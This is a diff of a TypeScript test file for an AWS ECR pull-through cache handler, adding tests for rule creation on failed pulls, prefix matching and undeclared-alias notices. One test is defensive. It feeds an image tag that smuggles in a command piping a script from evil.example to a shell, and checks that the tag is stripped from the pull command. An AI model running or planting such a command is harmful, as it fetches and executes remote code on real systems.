@@ -8,6 +8,7 @@ import { routeChanges } from '../../../lib/plan/routeChanges';
 import type { ChangeOutcome, ChangeWriter } from '../../../lib/plan/types';
 import { ptcWriters, type PtcChange } from '../../../lib/pull-through-cache/changes';
 import { handlePullThroughCacheEvent, PullThroughCacheEvent } from '../../../lib/pull-through-cache/onPullThroughCache';
+import { reconcilePullThroughCache } from '../../../lib/pull-through-cache/syncPullThroughCache';
 import type { PtcDeps } from '../../../lib/pull-through-cache/types';
 import { loadEvent, type EventJson } from '../../support/events';
 import { ACCOUNT, InMemoryPtcRegistry, NOW, ptcConfig, REGION, secretArn, TOPIC_ARN } from './ptcFixtures';
@@ -116,9 +117,9 @@ describe('onPullThroughCache: failed pulls (CloudTrail)', () => {
   });
 
   it.each<[string, (raw: EventJson) => void, RegExp]>([
-    ['a repository under no autoCreate prefix', (raw) => (raw.detail.requestParameters.repositoryName = 'team-a/api'), /does not start with a prefix listed in pullThroughCache.autoCreate/],
-    ['a declared rule that is not in autoCreate', (raw) => (raw.detail.requestParameters.repositoryName = 'quay/prometheus/node-exporter'), /autoCreate/],
-    ['an alias only as a name, not a path segment', (raw) => (raw.detail.requestParameters.repositoryName = 'docker-hubby/alpine'), /autoCreate/],
+    ['a repository under no declared prefix nor known alias', (raw) => (raw.detail.requestParameters.repositoryName = 'team-a/api'), /under no declared pull-through cache prefix, nor under a known upstream alias/],
+    ['an alias only as a name, not a path segment', (raw) => (raw.detail.requestParameters.repositoryName = 'docker-hubby/alpine'), /under no declared pull-through cache prefix/],
+    ['a known alias that is the whole name (no path under it)', (raw) => (raw.detail.requestParameters.repositoryName = 'ghcr'), /under no declared pull-through cache prefix/],
     ['another API call', (raw) => (raw.detail.eventName = 'InitiateLayerUpload'), /only failed pulls/],
     ['another error', (raw) => (raw.detail.errorCode = 'AccessDeniedException'), /only RepositoryNotFoundException/],
     ['a successful pull', (raw) => delete raw.detail.errorCode, /only RepositoryNotFoundException/],
@@ -136,6 +137,110 @@ describe('onPullThroughCache: failed pulls (CloudTrail)', () => {
     expect(report.decision).toMatch(why);
     expect(sns.notices).toEqual([]);
     expect(registry.calls.filter((call) => !call.startsWith('Describe'))).toEqual([]);
+  });
+
+  it('creates a declared rule that is not in autoCreate when a pull finds it missing, exactly as the sync would', async () => {
+    // Prepare: quay is declared (not autoCreate) and missing: the sync has not run yet, or someone deleted it.
+    const { deps, sns, registry } = harness();
+    const sync = new PlanningWriter();
+    await reconcilePullThroughCache({ config: deps.config, ptc: new InMemoryPtcRegistry({ secrets: [DOCKER_SECRET] }), writer: sync });
+    const syncBuilds = sync.changes.filter((change) => change.target === 'quay');
+
+    // Act
+    const report = await handlePullThroughCacheEvent(event(CLOUDTRAIL, (raw) => (raw.detail.requestParameters.repositoryName = 'quay/prometheus/node-exporter')), deps);
+
+    // Assess: the same changes, built by the same planner, then applied.
+    expect(report.outcome).toBe('done');
+    expect(report.decision).toMatch(/declared rule quay is missing \(not synced yet, or deleted\): created rule quay → quay\.io and its template/);
+    const created = report.changes.filter(({ change }) => change.action !== 'sns:Publish').map(({ change }) => change);
+    expect(created).toEqual(syncBuilds);
+    expect(created.map((change) => change.action)).toEqual(['ecr:CreateRepositoryCreationTemplate', 'ecr:CreatePullThroughCacheRule']);
+    expect(registry.rules).toEqual([{ prefix: 'quay', upstreamRegistryUrl: 'quay.io', upstreamRegistry: 'quay' }]);
+    expect(registry.templates.map((template) => template.prefix)).toEqual(['quay']);
+    expect(sns.notices[0]).toMatchObject({ kind: 'ptc.created', data: { prefix: 'quay', pullCommand: `docker pull ${ACCOUNT}.dkr.ecr.${REGION}.amazonaws.com/quay/prometheus/node-exporter:3.20` } });
+  });
+
+  it('keeps autoCreate meaning "declared, created on first use": the sync waits, the first failed pull creates', async () => {
+    // Prepare
+    const { deps, registry } = harness();
+    const sync = new PlanningWriter();
+
+    // Act
+    await reconcilePullThroughCache({ config: deps.config, ptc: registry, writer: sync });
+    const report = await handlePullThroughCacheEvent(event(CLOUDTRAIL), deps);
+
+    // Assess
+    expect(sync.changes.filter((change) => change.target === 'docker-hub')).toEqual([]);
+    expect(report.decision).toContain('rule docker-hub is in autoCreate (created on first use)');
+    expect(registry.rules.map((rule) => rule.prefix)).toEqual(['docker-hub']);
+  });
+
+  it('prefers the longest declared prefix, as ECR does', async () => {
+    // Prepare
+    const config = ptcConfig('pullThroughCache:\n  rules:\n    - { prefix: cache, upstream: ecr-public }\n    - { prefix: cache/k8s, upstream: k8s }\n');
+    const { deps, registry } = harness();
+
+    // Act
+    await handlePullThroughCacheEvent(event(CLOUDTRAIL, (raw) => (raw.detail.requestParameters.repositoryName = 'cache/k8s/pause')), { ...deps, config });
+
+    // Assess
+    expect(registry.rules.map((rule) => `${rule.prefix} ${rule.upstreamRegistryUrl}`)).toEqual(['cache/k8s registry.k8s.io']);
+  });
+
+  it('puts only a tag docker accepts, or a well-formed digest, into the pull command', async () => {
+    // Prepare
+    const { deps, sns } = harness();
+
+    // Act
+    await handlePullThroughCacheEvent(event(CLOUDTRAIL, (raw) => (raw.detail.requestParameters.imageIds = [{ imageTag: '3.20; curl evil.example | sh' }])), deps);
+
+    // Assess
+    expect((sns.notices[0] as PtcCreatedNotice).data.pullCommand).toBe(`docker pull ${ACCOUNT}.dkr.ecr.${REGION}.amazonaws.com/docker-hub/library/alpine`);
+  });
+
+  it('does not create a rule under a known upstream alias the configuration does not declare: it reports the entry to add', async () => {
+    // Prepare
+    const { deps, sns, registry } = harness();
+
+    // Act
+    const report = await handlePullThroughCacheEvent(event(CLOUDTRAIL, (raw) => (raw.detail.requestParameters.repositoryName = 'ghcr/fluxcd/flux-cli')), deps);
+
+    // Assess
+    expect(registry.calls.filter((call) => !call.startsWith('Describe'))).toEqual([]);
+    expect(registry.rules).toEqual([]);
+    expect(report.outcome).toBe('done');
+    expect(report.decision).toContain('ghcr/ is the usual prefix for GitHub Container Registry but is not declared, so no rule is created');
+    const notice = sns.notices[0] as PtcFailureNotice;
+    expect(notice).toMatchObject({
+      id: 'ptc.undeclared:ghcr',
+      kind: 'ptc.failure',
+      severity: 'warning',
+      data: {
+        source: 'undeclared',
+        prefix: 'ghcr',
+        repositoryName: 'ghcr/fluxcd/flux-cli',
+        upstreamRegistryUrl: 'ghcr.io',
+        failureCode: 'NOT_DECLARED',
+        configLines: ['{ prefix: ghcr, upstream: github-container-registry, credentialSecret: ecr-pullthroughcache/ghcr }'],
+      },
+    });
+    // github/ already caches ghcr.io in this configuration: the notice says so.
+    expect(notice.data.guidance.likelyCause).toContain('already cached under github/');
+    expect(notice.data.guidance.commands[0]).toMatch(/^aws secretsmanager create-secret --name ecr-pullthroughcache\/ghcr /);
+    expect(Notice.safeParse(notice).success).toBe(true);
+  });
+
+  it('gives configuration lines that, added to the configuration, declare exactly that rule', async () => {
+    // Prepare
+    const { deps, sns } = harness();
+    await handlePullThroughCacheEvent(event(CLOUDTRAIL, (raw) => (raw.detail.requestParameters.repositoryName = 'gitlab/group/app')), deps);
+    const lines = (sns.notices[0] as PtcFailureNotice).data.configLines ?? [];
+
+    // Act
+    const config = ptcConfig(`pullThroughCache:\n  rules:\n${lines.map((line) => `    - ${line}`).join('\n')}\n`);
+
+    // Assess
+    expect(config.pullThroughCache?.rules).toEqual([expect.objectContaining({ prefix: 'gitlab', upstream: 'gitlab-container-registry', credentialSecret: 'ecr-pullthroughcache/gitlab' })]);
   });
 
   it('ignores a miss under a prefix that already is a rule (the cause is elsewhere)', async () => {
